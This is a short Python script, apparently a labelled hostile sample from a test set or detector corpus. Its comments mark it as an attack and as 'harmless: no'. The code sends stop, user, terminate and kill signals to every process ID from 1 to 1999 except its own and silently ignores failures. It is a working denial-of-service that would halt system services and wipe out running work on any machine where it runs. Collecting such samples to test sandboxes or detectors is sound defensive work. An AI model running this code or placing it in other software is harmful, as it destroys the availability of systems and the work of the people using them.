# attack: every process that can be reached is stopped, interrupted and killed
# harmless: no
import os
import signal

for number in (signal.SIGSTOP, signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
    for pid in range(1, 2000):
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                pass
